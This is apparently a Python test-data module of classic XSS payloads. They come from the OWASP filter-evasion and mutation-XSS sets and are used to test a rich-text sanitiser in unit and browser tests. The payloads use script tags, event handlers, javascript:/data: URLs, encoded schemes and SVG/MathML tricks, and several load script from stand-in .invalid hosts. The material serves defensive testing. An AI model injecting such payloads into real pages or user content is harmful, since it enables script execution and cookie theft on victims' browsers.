"""Classic XSS payloads (OWASP's filter-evasion cheat sheet and the mutation-XSS classics) for the
rich-text sanitiser: tests/unit/test_sanitize.py runs them through `sanitize`, and
tests/browser/test_showcase_xss.py renders them, raw and sanitised, in Chromium.

Every payload that can run calls `alert(1)` (or `confirm`, `prompt`, `top.__xss.push`): the browser
test replaces those with a recorder before any payload runs. External hosts are `*.invalid`; the
browser test answers every request itself, so nothing leaves the machine. Many entries are
legacy (IE's expression(), vbscript:, dynsrc): they stay because the sanitiser must drop them all
the same.
"""

from __future__ import annotations

import base64


def _dec(text: str, width: int = 0, semi: bool = True) -> str:
    """Each character as a decimal character reference, optionally zero-padded, `;` optional."""
    end = ";" if semi else ""
    return "".join(f"&#{ord(c):0{width}d}{end}" for c in text)


def _hex(text: str, semi: bool = True) -> str:
    end = ";" if semi else ""
    return "".join(f"&#x{ord(c):X}{end}" for c in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_JS = "javascript:alert(1)"
_HTML_B64 = _b64("<script>alert(1)</script>")
_SVG_B64 = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')

PAYLOADS: list[str] = [
    # Script elements: plain, mixed case, attributes the naive filters miss, src from data:.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>top.__xss.push(1)</script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    '<script src="data:text/javascript,alert(1)"></script>',
    '<SCRIPT/XSS SRC="data:text/javascript,alert(1)"></SCRIPT>',
    '<SCRIPT/SRC="data:,alert(1)"></SCRIPT>',
    '<SCRIPT a=">" SRC="data:,alert(1)"></SCRIPT>',
    '<SCRIPT =">" SRC="data:,alert(1)"></SCRIPT>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '"><script>alert(1)</script>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<SCRIPT SRC=//xss.invalid/.j>",
    # Images: javascript: src (legacy), onerror in every spelling.
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f"<IMG SRC={_dec(_JS)}>",
    f"<IMG SRC={_dec(_JS, width=7, semi=False)}>",
    f"<IMG SRC={_hex(_JS, semi=False)}>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    '<img src="x" onerror="top.__xss.push(1)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src=x onerror="{_dec("javascript:alert(1)", width=7, semi=False)}">',
    "<img src=x onerror=alert&#40;1&#41;>",
    "<img src=x onerror=\"window['al'+'ert'](1)\">",
    f"<img src=x onerror=eval(atob('{_b64('alert(1)')}'))>",
    "<img src=x onerror=import('data:text/javascript,alert(1)')>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src onerror=confirm(1)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<img src="upload:0123456789abcdef0123456789abcdef" onerror="alert(1)">',
    '<img src="data:image/svg+xml;base64,' + _SVG_B64 + '">',
    # Broken and half-open tags.
    '<IMG SRC="`<javascript:alert>`(1)"',
    "<iframe src=javascript:alert(1) <",
    "<img src=x onerror=alert(1)//",
    "'><img src=x onerror=prompt(1)>",
    '<a title="\'><img src=x onerror=alert(1)>">quoted</a>',
    '<p title="</p><img src=x onerror=alert(1)>">nested quotes</p>',
    # Links: javascript:, vbscript:, data: and their obfuscations.
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    f'<a href="{_dec(_JS)}">click</a>',
    f'<a href="{_dec(_JS, width=7, semi=False)}">click</a>',
    f'<a href="{_hex(_JS)}">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="javascript&#58alert(1)">click</a>',
    '<a href="jav\tascript:alert(1)">click</a>',
    '<a href="java\x00script:alert(1)">click</a>',
    '<a href=" &#14;  javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    f'<a href="data:text/html;base64,{_HTML_B64}">click</a>',
    '<a href="%6Aavascript:alert(1)">click</a>',
    '<a href="https://ok.invalid/" onclick="alert(1)">ok</a>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="upload:0123456789abcdef0123456789abcdef">upload link</a>',
    # Handlers on allowed tags and on everything else.
    "<strong onmouseover=alert(1)>x</strong>",
    "<p onclick=alert(1)>click me</p>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<body onload=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<xss onclick="alert(1)" style=display:block>custom element</xss>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>t</td></tr></TABLE>',
    '<BR SIZE="&{alert(1)}">',
    # SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Frames, objects, embeds, forms.
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
    f'<object data="data:text/html;base64,{_HTML_B64}"></object>',
    '<object data="javascript:alert(1)"></object>',
    f'<EMBED SRC="data:image/svg+xml;base64,{_SVG_B64}" type="image/svg+xml" AllowScriptAccess="always">',
    '<embed src="javascript:alert(1)">',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    '<form action="javascript:alert(1)"><input type=submit value=go></form>',
    # Style, link, meta and base.
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
    "<STYLE>@import'javascript:alert(1)';</STYLE>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<DIV STYLE="background-image: url(javascript:alert(1))">div</DIV>',
    '<DIV STYLE="width: expression(alert(1));">div</DIV>',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_HTML_B64}">',
    '<BASE HREF="javascript:alert(1);//">',
    # Comments, CDATA and raw-text elements.
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    # Benign markup wrapped around a payload.
    "<p>before<script>alert(1)</script>after</p>",
    '<blockquote><p>quote</p><img src="x" alt="pic" onerror="alert(1)"></blockquote>',
]
